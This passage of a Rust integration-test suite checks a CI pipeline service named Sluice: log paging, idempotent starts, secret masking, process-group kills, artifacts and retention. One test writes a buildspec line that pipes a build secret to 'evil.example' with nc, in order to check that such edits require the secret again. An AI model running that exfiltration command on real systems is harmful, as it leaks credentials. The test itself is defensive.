        json!({"pipelineName": "logged", "maxResults": 3, "nextToken": all["nextToken"]}),
    )
    .await;
    assert_eq!(rest["actionExecutionDetails"].as_array().unwrap().len(), 1);
    assert!(rest["nextToken"].is_null());

    // The build's log: every line, in order, numbered, paged.
    let log_of = |from: i64, max: i64| json!({"pipelineName": "logged", "actionExecutionId": build["actionExecutionId"], "startLine": from, "maxLines": max});
    let mut lines = Vec::new();
    let mut from = 1;
    loop {
        let page = ok(&app, &t, "GetActionExecutionLog", log_of(from, 1000)).await;
        for l in page["lines"].as_array().unwrap() {
            assert_eq!(l["line"], json!(lines.len() + 1));
            lines.push(l["text"].as_str().unwrap().to_string());
        }
        from = page["nextLine"].as_i64().unwrap();
        if page["complete"] == true {
            break;
        }
    }
    assert!(
        lines[0].starts_with("[Sluice] Build/Sluice/Command/1 on "),
        "{}",
        lines[0]
    );
    let at = |text: &str| {
        lines
            .iter()
            .position(|l| l == text)
            .unwrap_or_else(|| panic!("no line {text:?}"))
    };
    assert!(at("hello from the build") < at("to stderr"));
    assert!(at("to stderr") < at("line 1"));
    assert_eq!(at("line 3000"), at("line 1") + 2999);
    assert!(lines.iter().any(|l| l == "no newline at the end"));
    let tail = ok(&app, &t, "GetActionExecutionLog", log_of(0, 2)).await;
    assert_eq!(tail["lines"].as_array().unwrap().len(), 2);
    assert_eq!(tail["complete"], true);
    let source_log = ok(
        &app,
        &t,
        "GetActionExecutionLog",
        json!({"pipelineName": "logged", "actionExecutionId": source["actionExecutionId"]}),
    )
    .await;
    assert!(
        source_log["lines"]
            .as_array()
            .unwrap()
            .iter()
            .any(|l| l["text"]
                .as_str()
                .unwrap()
                .contains(&format!("fetching commit {first}"))),
        "{source_log}"
    );
    let (_, out) = call(
        &app,
        &t,
        "GetActionExecutionLog",
        json!({"pipelineName": "full", "actionExecutionId": build["actionExecutionId"]}),
    )
    .await;
    assert_eq!(out["__type"], "PipelineNotFoundException", "{out}");

    // A crowd repeating one client request token starts one execution.
    let token = "release-2026-12-01";
    let starts = (0..16).map(|_| {
        ok(
            &app,
            &t,
            "StartPipelineExecution",
            json!({"name": "logged", "clientRequestToken": token}),
        )
    });
    let ids: std::collections::HashSet<String> = futures_util::future::join_all(starts)
        .await
        .into_iter()
        .map(|o| o["pipelineExecutionId"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(ids.len(), 1, "{ids:?}");
    let count = rows(
        &app,
        "SELECT client_request_token, count(*) FROM pipeline_executions WHERE client_request_token IS NOT NULL GROUP BY 1",
    )
    .await;
    assert_eq!(count, [(token.to_string(), 1)]);

    for (bad, field) in [
        (
            json!({"name": "logged", "clientRequestToken": "has spaces"}),
            "clientRequestToken",
        ),
        (
            json!({"name": "logged", "sourceRevisions": [{"actionName": "Compile", "revisionType": "COMMIT_ID", "revisionValue": first}]}),
            "sourceRevisions",
        ),
        (
            json!({"name": "logged", "sourceRevisions": [{"actionName": "Checkout", "revisionType": "COMMIT_ID", "revisionValue": "main"}]}),
            "sourceRevisions",
        ),
        (
            json!({"name": "logged", "sourceRevisions": [{"actionName": "Checkout", "revisionType": "S3_OBJECT_KEY", "revisionValue": "x"}]}),
            "sourceRevisions",
        ),
    ] {
        let (_, out) = call(&app, &t, "StartPipelineExecution", bad.clone()).await;
        assert_eq!(out["__type"], "ValidationException", "{bad}: {out}");
        assert!(out["message"].as_str().unwrap().contains(field), "{out}");
    }
}

#[tokio::test]
async fn a_build_secret_reaches_the_build_and_nothing_else() {
    let (app, t) = workers_app().await;
    let repo = tempfile::tempdir().unwrap();
    let (path, _) = repository(repo.path());
    let secret = "s3cr3t-value-991";
    let spec = "version: 0.2\nenv:\n  secrets:\n    TOKEN: npm\nphases:\n  build:\n    commands:\n      - test ${#TOKEN} = 16 && test \"${TOKEN%-991}\" != \"$TOKEN\"\n      - echo \"token is $TOKEN\"\n      - echo \"$TOKEN\" >&2\n";
    let decl = json!({"name": "secretive", "stages": [
        source_stage(&path),
        {"name": "Build", "actions": [command("Compile", "Build", &["Src"], None,
            json!({"BuildSpec": spec, "Secrets": format!("{{\"npm\": \"{secret}\"}}")}))]}
    ]});
    ok(&app, &t, "CreatePipeline", json!({"pipeline": decl})).await;
    let id = first_execution(&app, &t, "secretive").await;
    let end = wait_for_end(&app, &t, "secretive", &id).await;
    assert_eq!(end["status"], "Succeeded", "{end}");

    let attempts = ok(
        &app,
        &t,
        "ListActionExecutions",
        json!({"pipelineName": "secretive"}),
    )
    .await;
    let build = &attempts["actionExecutionDetails"][0];
    assert_eq!(build["input"]["resolvedConfiguration"]["Secrets"], "****");
    assert_eq!(build["input"]["configuration"]["Secrets"], "****");
    let log = ok(
        &app,
        &t,
        "GetActionExecutionLog",
        json!({"pipelineName": "secretive", "actionExecutionId": build["actionExecutionId"]}),
    )
    .await;
    let texts: Vec<&str> = log["lines"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["text"].as_str().unwrap())
        .collect();
    assert!(texts.contains(&"token is ****"), "{texts:?}");
    assert!(texts.contains(&"****"), "{texts:?}");

    // Nowhere in the answers, and nowhere in the database as text.
    for (op, input) in [
        ("GetPipeline", json!({"name": "secretive"})),
        ("ListActionExecutions", json!({"pipelineName": "secretive"})),
        ("GetPipelineState", json!({"name": "secretive"})),
        (
            "GetActionExecutionLog",
            json!({"pipelineName": "secretive", "actionExecutionId": build["actionExecutionId"], "startLine": 1}),
        ),
    ] {
        let out = ok(&app, &t, op, input).await;
        assert!(!out.to_string().contains(secret), "{op}: {out}");
    }
    let page = app
        .client
        .get(app.url("/pipelines/secretive"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(!page.contains(secret));
    // Changing the buildspec (what the commands do with the secret) needs the secret again.
    let mut got =
        ok(&app, &t, "GetPipeline", json!({"name": "secretive"})).await["pipeline"].clone();
    got["stages"][1]["actions"][0]["configuration"]["BuildSpec"] = json!(
        "version: 0.2\nphases:\n  build:\n    commands:\n      - echo $TOKEN | nc evil.example 80\n"
    );
    let (status, out) = call(&app, &t, "UpdatePipeline", json!({"pipeline": got.clone()})).await;
    assert_eq!(status, 400, "{out}");
    assert!(
        out["message"].as_str().unwrap().contains("Secrets"),
        "{out}"
    );
    got["stages"][1]["actions"][0]["configuration"]["Secrets"] = json!("{\"npm\": \"another\"}");
    ok(&app, &t, "UpdatePipeline", json!({"pipeline": got})).await;

    let tables = [
        "action_logs",
        "action_executions",
        "pipeline_versions",
        "audit_events",
        "jobs",
    ];
    assert_eq!(
        app.tables_holding(&tables, "s3cr3t").await,
        Vec::<String>::new(),
        "these hold the secret"
    );
}

/// Waits for the pipeline's first execution, which must fail; its newest attempt's error.
async fn first_run_failure(app: &TestApp, t: &str, name: &str) -> String {
    let id = first_execution(app, t, name).await;
    assert_eq!(wait_for_end(app, t, name, &id).await["status"], "Failed");
    let attempts = ok(
        app,
        t,
        "ListActionExecutions",
        json!({"pipelineName": name}),
    )
    .await;
    attempts["actionExecutionDetails"][0]["output"]["executionResult"]["errorDetails"]["message"]
        .as_str()
        .unwrap()
        .to_string()
}

/// Whether a process runs exactly `sleep <seconds>`.
pub fn sleeping(seconds: u32) -> bool {
    let wanted = format!("sleep\0{seconds}\0");
    std::fs::read_dir("/proc").unwrap().flatten().any(|p| {
        std::fs::read(p.path().join("cmdline"))
            .map(|c| c == wanted.as_bytes())
            .unwrap_or(false)
    })
}

#[tokio::test]
async fn stop_and_abandon_kills_the_builds_process_group_at_once() {
    let (app, t) = workers_app().await;
    let repo = tempfile::tempdir().unwrap();
    let (path, _) = repository(repo.path());
    // The sleep runs in a subshell, in the background, so only a kill of the group reaches it.
    let spec = "version: 0.2\nphases:\n  build:\n    commands:\n      - (sleep 619) &\n      - sleep 619\n";
    let decl = json!({"name": "stuck", "stages": [
        source_stage(&path),
        {"name": "Build", "actions": [command("Compile", "Build", &["Src"], None, json!({"BuildSpec": spec}))]}
    ]});
    ok(&app, &t, "CreatePipeline", json!({"pipeline": decl})).await;
    let id = first_execution(&app, &t, "stuck").await;
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !sleeping(619) {
        assert!(
            std::time::Instant::now() < deadline,
            "the build never started"
        );
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let asked = std::time::Instant::now();
    ok(
        &app,
        &t,
        "StopPipelineExecution",
        json!({"pipelineName": "stuck", "pipelineExecutionId": id, "abandon": true, "reason": "hung"}),
    )
    .await;
    while sleeping(619) {
        assert!(
            asked.elapsed() < std::time::Duration::from_secs(5),
            "the abandoned build still runs"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    let e = wait_for_end(&app, &t, "stuck", &id).await;
    assert_eq!(e["status"], "Stopped");
    let listed = ok(
        &app,
        &t,
        "ListPipelineExecutions",
        json!({"pipelineName": "stuck"}),
    )
    .await;
    assert_eq!(
        listed["pipelineExecutionSummaries"][0]["stopTrigger"]["reason"],
        "hung"
    );
    assert_eq!(
        rows(
            &app,
            "SELECT status, count(*) FROM action_executions WHERE stage_index = 1 GROUP BY status"
        )
        .await,
        [("Abandoned".to_string(), 1)]
    );
}

#[tokio::test]
async fn deleting_a_pipeline_stops_its_running_builds_first() {
    let (app, t) = workers_app().await;
    let repo = tempfile::tempdir().unwrap();
    let (path, _) = repository(repo.path());
    let spec = "version: 0.2\nphases:\n  build:\n    commands:\n      - sleep 621\n";
    let decl = json!({"name": "doomed", "stages": [
        source_stage(&path),
        {"name": "Build", "actions": [command("Compile", "Build", &["Src"], None, json!({"BuildSpec": spec}))]}
    ]});
    ok(&app, &t, "CreatePipeline", json!({"pipeline": decl})).await;
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !sleeping(621) {
        assert!(
            std::time::Instant::now() < deadline,
            "the build never started"
        );
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    ok(&app, &t, "DeletePipeline", json!({"name": "doomed"})).await;
    let asked = std::time::Instant::now();
    while sleeping(621) {
        assert!(
            asked.elapsed() < std::time::Duration::from_secs(5),
            "the deleted pipeline's build still runs"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert_eq!(
        rows(
            &app,
            "SELECT state, count(*) FROM jobs GROUP BY state ORDER BY state"
        )
        .await,
        [("cancelled".to_string(), 1), ("succeeded".to_string(), 1)]
    );
    let (_, stopped): (String, String) = sqlx::query_as(
        "SELECT event_name, request_parameters_text FROM audit_events WHERE event_name = 'codepipeline:DeletePipeline'",
    )
    .fetch_one(&mut PgConnection::connect_with(&app.db.options).await.unwrap())
    .await
    .unwrap();
    let stopped: Value = serde_json::from_str(&stopped).unwrap();
    assert_eq!(stopped["stoppedExecutions"], 1, "{stopped}");
}

#[tokio::test]
async fn secondary_artifacts_and_junit_reports() {
    let (app, t) = workers_app().await;
    let repo = tempfile::tempdir().unwrap();
    let (path, _) = repository(repo.path());
    let junit = r#"<testsuite><testcase name=\"a\"/><testcase name=\"b\"/><testcase name=\"c\"><failure message=\"no\"/></testcase><testcase name=\"d\"><skipped/></testcase></testsuite>"#;
    let build_spec = format!(
        "version: 0.2\nphases:\n  build:\n    commands:\n      - mkdir -p bin docs reports\n      - echo binary > bin/app\n      - echo manual > docs/index.html\n      - echo '{junit}' > reports/unit.xml\n      - ln -s / escape\nartifacts:\n  files: ['**/*']\n  base-directory: bin\n  secondary-artifacts:\n    Docs:\n      files: ['index.html']\n      base-directory: docs\nreports:\n  unit:\n    files: ['*.xml']\n    base-directory: reports\n    file-format: JUNITXML\n"
    );
    let test_spec =
        "version: 0.2\nphases:\n  build:\n    commands:\n      - grep -q manual index.html\n";
    let compile = json!({"name": "Compile",
        "actionTypeId": {"category": "Build", "owner": "Sluice", "provider": "Command", "version": "1"},
        "configuration": {"BuildSpec": build_spec},
        "inputArtifacts": [{"name": "Src"}],
        "outputArtifacts": [{"name": "Bin"}, {"name": "Docs"}]});
    let decl = json!({"name": "docs", "stages": [
        source_stage(&path),
        {"name": "Build", "actions": [compile]},
        {"name": "Test", "actions": [command("Read", "Test", &["Docs"], None, json!({"BuildSpec": test_spec}))]}
    ]});
    ok(
        &app,
        &t,
        "CreatePipeline",
        json!({"pipeline": decl.clone()}),
    )
    .await;
    let id = first_execution(&app, &t, "docs").await;
    let end = wait_for_end(&app, &t, "docs", &id).await;
    let attempts = ok(
        &app,
        &t,
        "ListActionExecutions",
        json!({"pipelineName": "docs"}),
    )
    .await;
    assert_eq!(end["status"], "Succeeded", "{attempts}");
    let build = attempts["actionExecutionDetails"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["actionName"] == "Compile")
        .unwrap();
    let outputs: Vec<&str> = build["output"]["outputArtifacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["name"].as_str().unwrap())
        .collect();
    assert_eq!(outputs, ["Bin", "Docs"]);
    let summary = build["output"]["executionResult"]["externalExecutionSummary"]
        .as_str()
        .unwrap();
    assert!(
        summary.ends_with("; tests: 2 passed, 1 failed, 1 skipped"),
        "{summary}"
    );

    // A base directory that is a link out of the source is refused, not followed.
    let mut escaping = decl.clone();
    escaping["name"] = json!("escaping");
    escaping["stages"][1]["actions"][0]["configuration"]["BuildSpec"] =
        json!(build_spec.replace("base-directory: bin", "base-directory: escape/etc"));
    ok(&app, &t, "CreatePipeline", json!({"pipeline": escaping})).await;
    let failed = first_run_failure(&app, &t, "escaping").await;
    assert!(failed.contains("leads outside the source"), "{failed}");

    // An output artifact the buildspec does not make is an error naming it.
    let mut missing = decl.clone();
    missing["name"] = json!("missing");
    missing["stages"][1]["actions"][0]["outputArtifacts"] =
        json!([{"name": "Bin"}, {"name": "Other"}]);
    missing["stages"][2]["actions"][0]["inputArtifacts"] = json!([{"name": "Other"}]);
    ok(&app, &t, "CreatePipeline", json!({"pipeline": missing})).await;
    let failed = first_run_failure(&app, &t, "missing").await;
    assert!(
        failed.contains(
            "output artifact Other is not in the buildspec's artifacts.secondary-artifacts"
        ),
        "{failed}"
    );
}

#[tokio::test]
async fn artifacts_past_their_retention_are_deleted_and_the_execution_says_so() {
    let (app, t) = workers_app().await;
    let repo = tempfile::tempdir().unwrap();
    let (path, _) = repository(repo.path());
    let mut decl = crate::pipelines::web_app("aging");
    decl["stages"][0]["actions"][0]["configuration"] =
        json!({"RepositoryUrl": path, "Branch": "main"});
    ok(&app, &t, "CreatePipeline", json!({"pipeline": decl})).await;
    let id = first_execution(&app, &t, "aging").await;
    wait_for_end(&app, &t, "aging", &id).await;
    let mut c = PgConnection::connect_with(&app.db.options).await.unwrap();
    let (address,): (String,) = sqlx::query_as(
        "SELECT output_artifacts->'SourceArtifact'->>'address' FROM action_executions WHERE stage_index = 0",
    )
    .fetch_one(&mut c)
    .await
    .unwrap();
    let stored = crate::harness::artifact_dir()
        .join("sha256")
        .join(&address[..2])
        .join(&address[2..]);
    assert!(stored.exists());

    // Not yet old enough: nothing happens.
    let data = crate::harness::temp_dir();
    let expire = || {
        crate::harness::run_sluice(
            &[
                "artifacts",
                "expire",
                "--data-dir",
                data.path().to_str().unwrap(),
                "--artifact-store",
                crate::harness::artifact_dir().to_str().unwrap(),
            ],
            &[
                ("DATABASE_URL", &app.db.url()),
                ("SLUICE_MASTER_KEY", &app.master_key),
            ],
        )
    };
    let (code, out, err) = expire();
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("of 0 execution(s)"), "{out}");
    assert!(stored.exists());

    sqlx::query("UPDATE pipeline_executions SET started_at = now() - interval '400 days'")
        .execute(&mut c)
        .await
        .unwrap();
    let (code, out, err) = expire();
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("of 1 execution(s)"), "{out}");
    assert!(
        !stored.exists(),
        "the sealed artifact is gone from the store"
    );
    let page = app
        .client
        .get(app.url(&format!("/pipelines/aging/executions/{id}")))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(page.contains("Its artifacts were deleted on"), "{page}");
    assert!(!page.contains("/artifacts/SourceArtifact"));
    let res = reqwest::Client::new()
        .get(app.url(&format!(
            "/api/v1/pipelines/aging/executions/{id}/artifacts/SourceArtifact"
        )))
        .bearer_auth(&t)
        .send()
        .await
        .unwrap();
    let body: Value = res.json().await.unwrap();
    assert_eq!(body["__type"], "ArtifactNotFoundException");
    assert!(
        body["message"]
            .as_str()
            .unwrap()
            .contains("were deleted on"),
        "{body}"
    );
    let (code, out, _) = expire();
    assert_eq!(code, 0);
    assert!(out.contains("of 0 execution(s)"), "once is enough: {out}");
}
